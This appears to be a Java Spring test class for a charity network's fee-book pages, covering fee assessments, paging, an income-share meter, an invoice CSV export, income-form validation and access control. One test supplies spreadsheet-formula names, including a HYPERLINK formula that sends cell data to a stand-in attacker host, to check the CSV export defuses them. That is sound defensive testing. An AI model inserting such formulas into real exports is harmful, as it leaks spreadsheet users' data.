package org.convenor.fees.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.convenor.console.KnownNetwork.changeForms;
import static org.convenor.console.KnownNetwork.duplicateIds;
import static org.convenor.console.KnownNetwork.operator;
import static org.convenor.console.KnownNetwork.page;
import static org.convenor.console.KnownNetwork.staff;
import static org.convenor.console.KnownNetwork.viewer;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.flash;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.convenor.StaffForTests;
import org.convenor.console.ConsolePageTest;
import org.convenor.console.KnownNetwork;
import org.convenor.network.store.ConvenorIncome;
import org.convenor.network.store.NetworkStore;
import org.convenor.network.store.StoredNetwork;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

/** The fee book ({@code /fees}), its invoice list, and recording our income. */
@ConsolePageTest
class FeePagesTests {

    static final String OUR_INCOME = "\"convenor\": {\"annualIncome\": 130000, \"currency\": \"GBP\"},";

    @Autowired
    MockMvc mvc;
    @Autowired
    NetworkStore store;

    @BeforeEach
    void knownNetwork() throws Exception {
        KnownNetwork.store(mvc);
    }

    @Test
    void everyOrganisationsAssessmentNeedingInformationFirstThenWhatIsOwedQuotedExemptAndNotAssessed() throws Exception {
        Document page = page(mvc.perform(get("/fees").with(viewer())).andExpect(status().isOk()).andReturn());

        assertThat(page.select("#assessments tbody tr").stream()
                .map(row -> row.attr("data-member") + " " + row.select(".outcome").text() + " " + row.select(".amount").text()
                        + " " + row.select("td[data-label=Exemption]").text()).toList())
                .containsExactly("geneva Needs information — —", "northbridge Invoice £10,000 —", "hollin Invoice £1,000 —",
                        "lumen Quote £1,000 —", "kisumu Exempt £0 Global South", "jisr Not assessed — —",
                        "sanad Not assessed — —");
        assertThat(page.select("#assessments tr[data-member=hollin] td[data-label=Reasons] li").eachText()).contains(
                "Annual income 2,400,000 is in the band 1,000,000 to under 10,000,000: fee 1,000.", "1,000 is due.");
        assertThat(page.select("#needs-heading").text()).isEqualTo("Needs information first (1)");
        assertThat(page.select("#needs-information li").text()).startsWith("Geneva Rights, Inc.:")
                .contains("No annual income given: needed to find the fee band.");
        assertThat(page.select("main p.muted").eachText()).contains(
                "4 people and other members are not assessed: fees apply only to partner organisations.");

        JsonNode answer = JsonMapper.builder().build().readTree(mvc.perform(get("/api/fees/assessments")
                .with(httpBasic(StaffForTests.VIEWER, StaffForTests.PASSWORD))).andReturn().getResponse().getContentAsString());
        assertThat(new BigDecimal(answer.at("/portfolio/totalFees").asString())).isEqualByComparingTo("11000");
        assertThat(page.select("main p.muted").last().text())
                .isEqualTo("Decided by fees version " + answer.at("/ruleSet/version").asString() + ".");
    }

    @Test
    void aLargeBookIsShownFiveHundredRowsAPageWithTheTotalOfTheWholeBookOnEach() throws Exception {
        StringBuilder members = new StringBuilder();
        for (int i = 0; i < 1001; i++) {
            members.append(i == 0 ? "" : ",").append("{\"id\": \"org-%04d\", \"name\": \"Organisation %d\","
                    .formatted(i, i) + " \"kind\": \"ORGANISATION\", \"roles\": [\"PARTNER\"], \"country\": \"GB\","
                    + " \"annualIncome\": 2400000}");
        }
        KnownNetwork.store(mvc, "{" + OUR_INCOME + "\"members\": [" + members + "]}");

        Document first = page(mvc.perform(get("/fees").with(viewer())).andReturn());
        Document last = page(mvc.perform(get("/fees?page=3").with(viewer())).andReturn());

        assertThat(first.select("#assessments tbody tr")).hasSize(500);
        assertThat(first.select("#assessments tbody tr").first().attr("data-member")).isEqualTo("org-0000");
        assertThat(first.select("nav.pager span").text()).isEqualTo("Assessments 1–500 of 1001 (page 1 of 3)");
        assertThat(first.select("#next-page").attr("href")).isEqualTo("/fees?page=2#book-heading");
        assertThat(last.select("#assessments tbody tr").eachAttr("data-member")).containsExactly("org-1000");
        assertThat(last.select("#total").text()).as("the whole book's total on every page")
                .isEqualTo(first.select("#total").text()).isEqualTo("£1,001,000");
    }

    @Test
    void theTotalAsAShareOfOurIncomeOnABarWithTheRulesWarningAndCapLines() throws Exception {
        Document page = page(mvc.perform(get("/fees").with(staff())).andReturn());

        assertThat(duplicateIds(page)).as("with the income form").isEmpty();
        assertThat(page.select("#total").text()).isEqualTo("£11,000");
        assertThat(page.select("#income").text()).isEqualTo("£130,000");
        assertThat(page.select("#book-facts dd").get(2).text()).isEqualTo("2");
        assertThat(page.select("#share").text()).isEqualTo("Fees are 8.46% of our income: close to the cap "
                + "(a warning from 8%, the cap at 10%).");
        assertThat(page.select("#share").hasClass("level-close")).isTrue();
        assertThat(page.select(".meter").attr("aria-label"))
                .isEqualTo("Fees are 8.46% of our income; the warning line is at 8%, the cap at 10%");
        assertThat(page.select(".meter-label").eachText()).containsExactly("8% warning", "10% cap");
        // The bar ends half as far again as the cap (15%): 8.46% fills 56% of it, the lines at 53% and 67%.
        assertThat(page.select(".meter-fill").attr("style")).isEqualTo("width:56%");
        assertThat(page.select(".line-warning").attr("style")).isEqualTo("left:53%");
        assertThat(page.select(".line-cap").attr("style")).isEqualTo("left:67%");
        assertThat(page.select(".fee-alert").eachAttr("data-kind")).containsExactly("FEE_SHARE_HIGH");
        assertThat(page.select(".fee-alert").hasClass("panel-warning")).isTrue();
        assertThat(page.select("#not-counted").text()).isEqualTo("1 partner whose fee is not known yet: Geneva Rights, Inc.");
        assertThat(page.select("#not-counted a").attr("href")).isEqualTo("/network/members/geneva");
    }

    @Test
    void theInvoiceListIsACsvOfEveryFeePayableForAccounts() throws Exception {
        LocalDate before = LocalDate.now(ZoneOffset.UTC);
        MvcResult csv = mvc.perform(get("/fees/invoices.csv").with(viewer())).andExpect(status().isOk()).andReturn();
        LocalDate after = LocalDate.now(ZoneOffset.UTC);
        assertThat(csv.getResponse().getHeader("Content-Disposition")).as("named for today, either side of midnight")
                .isIn("attachment; filename=\"invoices-" + before + ".csv\"",
                        "attachment; filename=\"invoices-" + after + ".csv\"");

        assertThat(csv.getResponse().getContentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(csv.getResponse().getContentAsString()).isEqualTo("""
                memberId,name,amount,currency\r
                hollin,Hollin Legal Aid Trust,1000,GBP\r
                northbridge,Northbridge Foundation,10000,GBP\r
                """);
        assertThat(page(mvc.perform(get("/fees").with(viewer())).andReturn()).select("#invoices-csv").text())
                .isEqualTo("Download the invoice list (CSV, 2 invoices)");
    }

    @Test
    void aNameThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextInTheInvoiceList() throws Exception {
        KnownNetwork.store(mvc, KnownNetwork.JSON
                .replace("Hollin Legal Aid Trust", "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")")
                .replace("Northbridge Foundation", "@SUM(1+1)"));

        String csv = mvc.perform(get("/fees/invoices.csv").with(viewer())).andExpect(status().isOk()).andReturn()
                .getResponse().getContentAsString();

        assertThat(csv).isEqualTo("""
                memberId,name,amount,currency\r
                hollin,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1000,GBP\r
                northbridge,'@SUM(1+1),10000,GBP\r
                """);
    }

    @Test
    void withoutOurIncomeTheBookIsTotalledButNotMeasuredAndStaffAreAskedForIt() throws Exception {
        KnownNetwork.store(mvc, KnownNetwork.JSON.replace(OUR_INCOME, ""));

        Document page = page(mvc.perform(get("/fees").with(staff())).andReturn());

        assertThat(page.select("#income").text()).isEqualTo("not recorded");
        assertThat(page.select("#share, .meter")).isEmpty();
        assertThat(page.select(".fee-alert").eachAttr("data-kind")).containsExactly("CONVENOR_INCOME_UNKNOWN");
        assertThat(page.select("#income-form").hasAttr("open")).isTrue();
        assertThat(page.select("#income-form summary").text()).isEqualTo("Record our income");
        assertThat(page.select("#annualIncome").val()).isEmpty();
    }

    @Test
    void staffRecordOurIncomeWrittenAsPeopleWriteItAndTheBookIsMeasuredAgainstIt() throws Exception {
        Document page = page(mvc.perform(get("/fees").with(staff())).andReturn());
        assertThat(page.select("#income-form").hasAttr("open")).isFalse();
        assertThat(page.select("#income-form summary").text()).isEqualTo("Change our recorded income");
        assertThat(page.select("#annualIncome").val()).isEqualTo("130000");
        assertThat(page.select("#currency").val()).isEqualTo("GBP");

        MvcResult recorded = mvc.perform(post("/fees/income").param("annualIncome", "110,000").param("currency", " gbp")
                .with(staff()).with(csrf()))
                .andExpect(redirectedUrl("/fees"))
                .andExpect(flash().attribute("notice", "Our income is recorded: the fee book is measured against it."))
                .andReturn();

        assertThat(store.read().convenor()).isEqualTo(new ConvenorIncome(new BigDecimal("110000"), "GBP"));
        page = page(mvc.perform(get("/fees").flashAttrs(recorded.getFlashMap()).with(staff())).andReturn());
        assertThat(page.select("#share").text()).startsWith("Fees are 10% of our income: over the cap");
        assertThat(page.select(".fee-alert").eachAttr("data-kind")).containsExactly("FEE_CAP_EXCEEDED");
        assertThat(page.select(".fee-alert").hasClass("panel-problem")).isTrue();
    }

    @Test
    void anIncomeThatCannotBeRecordedIsSaidBesideItsFieldAndNothingIsSaved() throws Exception {
        StoredNetwork before = store.read();

        MvcResult refused = mvc.perform(post("/fees/income").param("annualIncome", "lots").param("currency", "GBP")
                .with(staff()).with(csrf())).andExpect(redirectedUrl("/fees#income-form")).andReturn();
        Document page = page(mvc.perform(get("/fees").flashAttrs(refused.getFlashMap()).with(staff())).andReturn());
        assertThat(page.select("#income-form").hasAttr("open")).isTrue();
        assertThat(page.select("#error-annualIncome").text()).isEqualTo("'lots' is not a number");
        assertThat(page.select("#annualIncome").val()).isEqualTo("lots");
        assertThat(page.select("#error-currency")).isEmpty();

        refused = mvc.perform(post("/fees/income").param("annualIncome", "-5").param("currency", "POUNDS")
                .with(staff()).with(csrf())).andExpect(redirectedUrl("/fees#income-form")).andReturn();
        page = page(mvc.perform(get("/fees").flashAttrs(refused.getFlashMap()).with(staff())).andReturn());
        assertThat(page.select("#annualIncome ~ .field-error").text()).isEqualTo("must not be negative");
        assertThat(page.select("#currency ~ .field-error").text())
                .isEqualTo("'POUNDS' is not an ISO 4217 currency code (e.g. GBP)");
        assertThat(page.select("#currency").val()).isEqualTo("POUNDS");

        mvc.perform(post("/fees/income").param("annualIncome", " ").with(staff()).with(csrf()))
                .andExpect(flash().attribute("incomeErrors", java.util.Map.of("annualIncome", "give our annual income, e.g. 2600000")));
        assertThat(store.read()).as("nothing written").isSameAs(before);
    }

    @Test
    void aViewerReadsTheBookWithoutTheIncomeFormAndIsRefusedRecordingIt() throws Exception {
        Document page = page(mvc.perform(get("/fees").with(viewer())).andReturn());
        assertThat(page.select("#income-form")).isEmpty();
        assertThat(changeForms(page)).isEmpty();
        assertThat(page.select("#invoices-csv")).hasSize(1);
        StoredNetwork before = store.read();

        mvc.perform(post("/fees/income").param("annualIncome", "1").param("currency", "GBP").with(viewer()).with(csrf()))
                .andExpect(status().isForbidden());

        assertThat(store.read()).as("nothing written").isSameAs(before);
    }

    @Test
    void anIncomePostedWithoutTheFormsCsrfTokenIsRefusedAndAnOperatorOpensNoPage() throws Exception {
        StoredNetwork before = store.read();

        mvc.perform(post("/fees/income").param("annualIncome", "1").param("currency", "GBP").with(staff()))
                .andExpect(status().isForbidden());

        assertThat(store.read()).as("nothing written").isSameAs(before);
        for (String path : List.of("/fees", "/fees/invoices.csv")) {
            mvc.perform(get(path).with(operator())).andExpect(status().isForbidden());
        }
    }
}
